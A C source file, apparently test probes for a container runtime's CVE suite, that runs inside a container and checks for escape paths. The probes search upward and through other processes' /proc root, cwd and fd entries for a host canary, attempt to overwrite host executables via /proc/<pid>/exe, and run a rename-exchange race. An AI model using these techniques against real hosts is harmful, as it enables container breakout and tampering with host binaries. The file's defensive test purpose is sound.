/*
 * The hostile programs of test/cve, static, for the inside of a container:
 *
 *     probe facts                descriptors, working directory and status of this process, one "key value" a line
 *     probe beyond CANARY        tries to read CANARY/secret upwards from the working directory
 *     probe spy CANARY MS        for MS, looks into every other process: a directory of the host, a program to overwrite
 *     probe exchange A B         swaps two names until it is killed (run on the host, on a shared volume)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define UPWARDS "../../../../../../../../../../../../../../../.."

static int facts(void)
{
	char path[64], target[PATH_MAX], line[512];
	for (int fd = 0; fd < 1024; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		ssize_t length = readlink(path, target, sizeof(target) - 1);
		target[length < 0 ? 0 : length] = '\0';
		printf("fd %d %s\n", fd, target);
	}
	printf("cwd %s\n", getcwd(target, sizeof(target)) ? target : strerror(errno));
	FILE *status = fopen("/proc/self/status", "r");
	while (status && fgets(line, sizeof(line), status))
		fputs(line, stdout);
	return 0;
}

/* Whether the host's canary can be read from a directory, going up as far as it goes. */
static int reaches(int dir, const char *canary)
{
	char path[PATH_MAX];
	struct stat status;
	snprintf(path, sizeof(path), UPWARDS "%s/secret", canary);
	return fstatat(dir, path, &status, 0) == 0;
}

static int beyond(const char *canary)
{
	int found = reaches(AT_FDCWD, canary);
	puts(found ? "ESCAPED" : "inside");
	return found;
}

static int open_at(const char *format, const char *pid, const char *name, int flags)
{
	char path[PATH_MAX];
	snprintf(path, sizeof(path), format, pid, name);
	return open(path, flags | O_CLOEXEC);
}

static void try_directory(const char *pid, const char *what, int fd, const char *canary)
{
	if (fd < 0)
		return;
	if (reaches(fd, canary))
		printf("LEAK /proc/%s/%s\n", pid, what);
	close(fd);
}

/* Programs of other processes, kept until they no longer run: writing to a running one is ETXTBSY. */
static int programs[64];
static int known;
static ino_t own[2];

static void try_programs(void)
{
	for (int i = 0; i < known; i++) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/self/fd/%d", programs[i]);
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		/* The first byte of any ELF file, so that even a success changes nothing. */
		if (fd >= 0 && pwrite(fd, "\x7f", 1, 0) == 1)
			puts("OVERWRITTEN");
		if (fd >= 0)
			close(fd);
	}
}

static void try_process(const char *pid, const char *canary)
{
	try_directory(pid, "root", open_at("/proc/%s/%s", pid, "root", O_PATH), canary);
	try_directory(pid, "cwd", open_at("/proc/%s/%s", pid, "cwd", O_PATH), canary);
	int program = open_at("/proc/%s/%s", pid, "exe", O_RDONLY);
	struct stat status;
	if (program >= 0 && known < 64 && fstat(program, &status) == 0 && status.st_ino != own[0] && status.st_ino != own[1])
		programs[known++] = program;
	else if (program >= 0)
		close(program);
	char path[PATH_MAX];
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *fds = opendir(path);
	for (struct dirent *entry; fds && (entry = readdir(fds));) {
		if (entry->d_name[0] != '.')
			try_directory(pid, entry->d_name, open_at("/proc/%s/fd/%s", pid, entry->d_name, O_PATH), canary);
	}
	if (fds)
		closedir(fds);
}

static long now(void)
{
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec * 1000 + time.tv_nsec / 1000000;
}

static int spy(const char *canary, long ms)
{
	struct stat status;
	own[0] = stat("/proc/self/exe", &status) == 0 ? status.st_ino : 0;
	own[1] = stat("/bin/busybox", &status) == 0 ? status.st_ino : 0;
	char self[16];
	snprintf(self, sizeof(self), "%d", getpid());
	setvbuf(stdout, NULL, _IONBF, 0);
	puts("spying");
	for (long end = now() + ms; now() < end;) {
		DIR *processes = opendir("/proc");
		for (struct dirent *entry; processes && (entry = readdir(processes));) {
			const char *pid = entry->d_name;
			if (pid[0] >= '1' && pid[0] <= '9' && strcmp(pid, self) != 0)
				try_process(pid, canary);
		}
		if (processes)
			closedir(processes);
		try_programs();
	}
	return 0;
}

static int exchange(const char *one, const char *other)
{
	for (;;) {
		if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0)
			return errno == ENOENT ? 0 : 1;
	}
}

int main(int count, char **words)
{
	const char *what = count > 1 ? words[1] : "";
	if (strcmp(what, "facts") == 0)
		return facts();
	if (strcmp(what, "beyond") == 0 && count == 3)
		return beyond(words[2]);
	if (strcmp(what, "spy") == 0 && count == 4)
		return spy(words[2], atol(words[3]));
	if (strcmp(what, "exchange") == 0 && count == 4)
		return exchange(words[2], words[3]);
	return 2;
}
